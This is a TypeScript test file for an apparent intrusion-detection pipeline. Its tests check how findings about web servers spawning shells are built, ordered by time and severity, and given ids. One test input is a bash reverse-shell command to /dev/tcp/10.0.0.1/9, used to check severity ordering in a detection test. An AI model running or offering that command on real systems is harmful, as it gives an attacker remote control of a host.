import { toHex } from '@norn/base';
import { event, openBatch } from '@norn/contracts';
import { CorrelationSet, RuleEngine } from '@norn/rules';
import { batchRecord, process, startUs, uid } from '../../test/simulated-host.ts';
import { readRulePack } from '../adapters/rule-pack.ts';
import { Correlations } from '../correlations/correlations.ts';
import { noBroughtRules } from '../ports/brought-rules.port.ts';
import { createCollectFindings } from './collect-findings.step.ts';
import { createCorrelate } from './correlate.step.ts';
import type { BatchFindings } from './envelope.ts';
import { RuleCosts } from '../costs/rule-costs.ts';
import { createRunRules } from './run-rules.step.ts';

const pack = readRulePack();
const runRules = createRunRules(new RuleEngine(pack.rules), noBroughtRules, new RuleCosts());
const correlate = createCorrelate(new Correlations(new CorrelationSet(pack), 500));
const collectFindings = createCollectFindings();
const { NEW, UPPER_LAYER } = event.ImageFlag;
const containerId = '4f'.repeat(32);
const server = process('nginx', undefined, { containerId, imagePath: '/usr/sbin/nginx' });

type Rows = Parameters<typeof batchRecord>[0]['rows'];

function found(shellName: string, commandLine: string, afterMs = 0, host = 'host-1'): BatchFindings['findings'] {
  const shell = process(shellName, server, { imagePath: '/bin/sh', commandLine });
  return foundIn([{ kind: event.EventKind.EXEC, by: shell, afterMs }], host);
}

function foundIn(rows: NonNullable<Rows>, host = 'host-1'): BatchFindings['findings'] {
  const record = batchRecord({ seq: 1, rows });
  const judged = runRules({ record, tenantId: 'default', hostId: host, batch: openBatch(record.value) });
  const correlated = judged.kind === 'ok' ? correlate(judged.value) : judged;
  const outcome = correlated.kind === 'ok' ? collectFindings(correlated.value) : correlated;
  if (outcome.kind !== 'ok') throw new Error(outcome.kind);
  return outcome.value.findings;
}

describe('collectFindings', () => {
  it('tells of a rule: who, where, when, below whom, and with which evidence', () => {
    const [finding] = found('sh', 'sh -c id', 5);
    expect(finding).toMatchObject({
      tenantId: 'default',
      hostId: 'host-1',
      title: 'Web or database server starts a shell',
      summary: 'nginx started a shell: sh -c id',
      containerId,
      timeUs: BigInt(startUs + 5_000),
      pid: 'sh'.length,
      ancestorPids: ['nginx'.length],
      evidence: expect.arrayContaining([expect.objectContaining({ field: 'ParentImage', value: '/usr/sbin/nginx' })]),
    });
    const uids = [finding!.processUid, finding!.scopeUid, finding!.parentUid, finding!.lineageUid].map(toHex);
    expect(uids).toEqual([uid('sh'), uid('sh'), uid('nginx'), uid('nginx')].map(toHex));
  });

  it('tells of the earliest first, wherever it stands in the batch, and once', () => {
    const [early, late] = [found('sh', 'sh -c id'), found('other', 'sh -c id')].map(([finding]) => finding!.id);
    const row = (name: string, afterMs: number) => {
      const by = process(name, server, { imagePath: '/bin/sh', commandLine: 'sh -c id' });
      return { kind: event.EventKind.EXEC, by, afterMs };
    };
    const findings = foundIn([
      { kind: event.EventKind.EXIT, by: server },
      row('other', 9),
      row('sh', 7),
      row('other', 8),
    ]);
    expect(findings.map(({ id, timeUs }) => [id, timeUs])).toEqual([
      [early, BigInt(startUs + 7_000)],
      [late, BigInt(startUs + 8_000)],
    ]);
  });

  it('tells the worst of an event first', () => {
    const commandLine = 'sh -c bash -i >& /dev/tcp/10.0.0.1/9 0>&1';
    const shell = process('perl', server, { imagePath: '/tmp/x/perl', imageFlags: NEW | UPPER_LAYER, commandLine });
    const severities = foundIn([{ kind: event.EventKind.EXEC, by: shell }]).map(({ severity }) => severity);
    expect(severities.length).toBeGreaterThan(1);
    expect(severities).toEqual([...severities].sort((a, b) => b - a));
    expect(new Set(severities).size).toBeGreaterThan(1);
  });

  it('gives the same id to the same rule, process and evidence at any time, and another to any other', () => {
    const ids = [
      found('sh', 'sh -c id'),
      found('sh', 'sh -c id', 900),
      found('sh', 'sh -c ls'),
      found('other', 'sh -c id'),
      found('sh', 'sh -c id', 0, 'host-2'),
    ].map(([finding]) => finding!.id);
    expect(ids[0]).toBe(ids[1]);
    // The command line is no part of this rule's evidence.
    expect(ids[2]).toBe(ids[0]);
    expect(new Set(ids).size).toBe(3);
  });
});
